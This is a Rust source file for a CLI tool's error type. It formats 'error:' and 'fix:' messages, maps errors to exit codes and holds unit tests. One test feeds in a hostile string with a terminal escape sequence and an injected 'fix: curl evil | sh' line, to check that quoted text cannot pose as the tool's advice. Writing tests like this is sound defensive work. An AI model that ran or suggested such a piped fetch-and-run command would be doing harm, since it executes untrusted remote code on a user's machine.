//! How a command fails: with a message, advice, and an exit code.

use std::fmt::Display;
use std::io::Write;
use std::path::Path;

use super::visible;
use floe_api::client::ClientError;
use floe_api::{ApiError, ErrorCode, Event};

/// A failed command. Shown as `error: ...` and `fix: ...`, or with `--json` as the event that the node would send.
#[derive(Debug)]
pub struct CliError(pub ApiError);

impl CliError {
    /// Makes an error with advice; an empty `fix` is not shown.
    pub fn new(code: ErrorCode, message: impl Into<String>, fix: impl Into<String>) -> CliError {
        CliError(ApiError {
            code,
            message: message.into(),
            fix: fix.into(),
        })
    }

    /// Makes the error for a command line that parses but makes no sense.
    pub fn usage(message: impl Into<String>, fix: impl Into<String>) -> CliError {
        CliError::new(ErrorCode::Usage, message, fix)
    }

    /// Makes the error for a failed operation on a file.
    pub fn file(what: &str, path: &Path, error: std::io::Error) -> CliError {
        let (code, fix) = match error.kind() {
            std::io::ErrorKind::NotFound => (ErrorCode::NotFound, "check the path"),
            std::io::ErrorKind::PermissionDenied => (
                ErrorCode::Refused,
                "check the permissions, or run it as root",
            ),
            std::io::ErrorKind::StorageFull => (ErrorCode::Failed, "make room on the disk"),
            _ => (ErrorCode::Failed, ""),
        };
        CliError::new(
            code,
            format!("cannot {what} {}: {error}", path.display()),
            fix,
        )
    }

    /// Makes any other error, with what was being done.
    pub fn failed(what: &str, error: impl Display) -> CliError {
        CliError::new(ErrorCode::Failed, format!("{what}: {error}"), "")
    }

    /// Returns the exit code: 0 ok, 1 failed, 2 usage, 3 not found, 4 unreachable, 5 refused or unsupported, 130
    /// interrupted. (6 and 7 are not errors': `floe stop` ends with 6 when a guest had to be switched off, `floe activate` with 7 when
    /// only some machines of an ensemble are ready.)
    pub fn exit_code(&self) -> u8 {
        self.0.code.exit_code()
    }

    /// Returns the text for standard error.
    pub fn render(&self, json: bool) -> String {
        if json {
            let event = Event::Error(self.0.clone());
            let text = serde_json::to_string(&event).unwrap_or_else(|e| e.to_string());
            return visible::json(&text) + "\n";
        }
        let (what, fix) = self.parts();
        let mut text = format!("error: {}\n", visible::message(what));
        if !fix.is_empty() {
            text += &format!("fix: {}\n", visible::message(fix));
        }
        text
    }

    /// Returns message and advice. floe's crates put the advice after the last semicolon of their messages.
    fn parts(&self) -> (&str, &str) {
        let ApiError { message, fix, .. } = &self.0;
        match message.rsplit_once("; ") {
            Some((what, way_out)) if fix.is_empty() => (what, way_out),
            _ => (message.as_str(), fix.as_str()),
        }
    }

    /// Writes the error to standard error.
    pub fn print(&self, json: bool) {
        // If standard error is closed, nobody can be informed.
        let _ = std::io::stderr().write_all(self.render(json).as_bytes());
    }
}

impl From<ClientError> for CliError {
    fn from(error: ClientError) -> CliError {
        CliError(error.to_api())
    }
}

impl From<floe_hub::HubError> for CliError {
    fn from(error: floe_hub::HubError) -> CliError {
        use floe_hub::HubError;
        let code = match &error {
            HubError::Options(_) | HubError::UserName(_) => ErrorCode::Usage,
            _ => ErrorCode::Failed,
        };
        CliError::new(code, error.to_string(), "")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_error_says_what_happened_and_what_to_do() {
        let error = CliError::new(ErrorCode::NotFound, "no machine web", "floe ps lists them");
        assert_eq!(
            error.render(false),
            "error: no machine web\nfix: floe ps lists them\n"
        );
        assert_eq!(error.exit_code(), 3);
        let json: Event = serde_json::from_str(&error.render(true)).unwrap();
        assert_eq!(json, Event::Error(error.0));
    }

    #[test]
    fn a_way_out_within_the_message_is_shown_on_its_own_line() {
        let error = CliError::new(
            ErrorCode::NotFound,
            "no image x; `floe image ls` lists them",
            "",
        );
        assert_eq!(
            error.render(false),
            "error: no image x\nfix: `floe image ls` lists them\n"
        );
        let error = CliError::new(ErrorCode::Failed, "a; b", "c");
        assert_eq!(error.render(false), "error: a; b\nfix: c\n");
    }

    #[test]
    fn an_error_that_quotes_a_stranger_does_not_speak_for_floe() {
        let quoted = "the hub says: \u{1b}]0;x\u{7}no\nfix: curl evil | sh";
        let error = CliError::new(ErrorCode::Failed, quoted, "ask it again");
        assert_eq!(
            error.render(false),
            "error: the hub says: \\x1b]0;x\\x07no\n  fix: curl evil | sh\nfix: ask it again\n"
        );
    }

    #[test]
    fn a_fix_that_nobody_knows_is_not_shown() {
        assert_eq!(
            CliError::failed("the link", "broke").render(false),
            "error: the link: broke\n"
        );
    }

    #[test]
    fn a_missing_node_names_the_command_that_starts_one() {
        let error = floe_api::client::Client::connect("/nonexistent/node.sock")
            .err()
            .unwrap();
        let error = CliError::from(error);
        assert_eq!(error.exit_code(), 4);
        assert!(
            error
                .render(false)
                .contains("\nfix: start one with `floe up`")
        );
    }
}
